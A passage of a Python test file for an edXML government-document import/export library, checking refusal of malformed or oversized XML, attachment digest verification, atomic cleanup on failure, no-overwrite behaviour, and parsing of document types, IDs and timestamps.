    assert doc.metadata.files[1].sha256 == hashlib.sha256(SAMPLE_DOCX).digest()


def test_deep_nesting_and_element_floods_are_refused() -> None:
    deep = "<edXML>" + "<a>" * 100 + "</a>" * 100 + "</edXML>"
    assert "deeper" in refused("field_invalid", deep).detail
    flood = "<edXML>" + "<a/>" * (edxml.NODES_MAX + 1) + "</edXML>"
    assert "elements" in refused("field_invalid", flood).detail
    text = "<edXML><Subject>" + "đ" * (edxml.TEXT_MAX + 1) + "</Subject></edXML>"
    assert "characters" in refused("field_invalid", text).detail


def test_digest_mismatch_writes_nothing(tmp_path: Path) -> None:
    data = b"ban goc"
    info = FileInfo("Báo cáo.pdf", "application/pdf", len(data), hashlib.sha256(data).digest())
    xml = export_document(full_meta(), Routing(), PROVINCE, [COMMUNE], [(info, data)])
    tampered = xml.replace(base64.b64encode(data), base64.b64encode(b"ban sua"))
    out = tmp_path / "in"
    with pytest.raises(RemoteError) as info_:
        import_document(tampered, out)
    assert info_.value.code == "file_digest_mismatch"
    assert list(out.iterdir()) == []


def test_failure_after_attachments_leaves_nothing(tmp_path: Path) -> None:
    """The second attachment is bad: the first, already decoded to disk, is removed too."""
    text = sample_text()
    b2 = text.split("<ContentTransferEncoded>")[2].split("</ContentTransferEncoded>")[0]
    out = tmp_path / "in"
    with pytest.raises(RemoteError):
        import_document(text.replace(b2, b2 + "!").encode(), out)
    assert list(out.iterdir()) == []
    with pytest.raises(RemoteError):
        import_document(text.replace("</edXML>", "</edXMLX>").encode(), out)
    assert list(out.iterdir()) == []


def test_an_existing_file_is_not_overwritten(tmp_path: Path) -> None:
    out = tmp_path / "in"
    out.mkdir()
    (out / "Báo cáo quý III.pdf").write_bytes(b"keep me")
    with pytest.raises(LocalError, match="exists"):
        import_document(SAMPLE, out)
    assert (out / "Báo cáo quý III.pdf").read_bytes() == b"keep me"
    assert sorted(p.name for p in out.iterdir()) == ["Báo cáo quý III.pdf"]


def test_bad_lienthong_extension_values() -> None:
    xml = export_document(full_meta(), Routing(), PROVINCE, [COMMUNE], [], new_packet_id())
    text = xml.decode()
    start = text.index("<lt:PacketId>") + len("<lt:PacketId>")
    end = text.index("</lt:PacketId>")
    refused("field_invalid", text[:start] + "không phải uuid" + text[end:])
    v4 = "0b7a3a8e-2f61-4c4c-9a3e-1d2c3b4a5f60"
    assert "UUIDv7" in refused("field_invalid", text[:start] + v4 + text[end:]).detail
    refused("field_invalid", text.replace("<lt:Secrecy>0<", "<lt:Secrecy>9<"))


# --- small pieces ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "notation", "expected"),
    [
        ("Nghị quyết", None, "NQ"),
        (nfd("Quyết định"), None, "QĐ"),
        ("Quy định", None, "QĐ"),
        ("Cong van", None, "CV"),
        ("CÔNG VĂN", None, "CV"),
        ("Chương trình", None, "CTr"),
        ("Tờ trình", None, "TTr"),
        ("Đề án", None, "ĐA"),
        ("De an", None, "ĐA"),
        ("TB", None, "TB"),
        ("Loại lạ", "BC/HU", "BC"),
        (None, "QĐ-UBND", "QĐ"),
        (None, None, "CV"),
        ("Loại lạ", "XYZ/ABC", "CV"),
    ],
)
def test_doc_type_from_name(name: str | None, notation: str | None, expected: str) -> None:
    assert doc_type_from_name(name, notation) == expected


def test_national_document_id() -> None:
    assert (
        national_document_id("000.00.00.G22", "2015-09-30", "7816", "VPCP-TTĐT")
        == "000.00.00.G22,2015/09/30,7816/VPCP-TTĐT"
    )
    assert national_document_id("000.00.00.G22", None, "7816", "VPCP-TTĐT") is None
    assert national_document_id("000.00.00.G22", "2015-09-30", None, None) is None


@pytest.mark.parametrize(
    "stamp",
    [
        "2025/09/30 14:05:12",
        "2025-09-30 14:05:12",
        "2025-09-30T14:05:12",
        "30/09/2025 14:05:12",
        "2025-09-30T07:05:12Z",
        "2025-09-30T14:05:12+07:00",
        "2025-09-30T14:05:12.250",
    ],
)
def test_trace_timestamps(stamp: str) -> None:
    text = sample_text().replace("2025/09/30 14:05:12", stamp)
    assert import_document_from_bytes(text.encode()).trace[0].at == T0
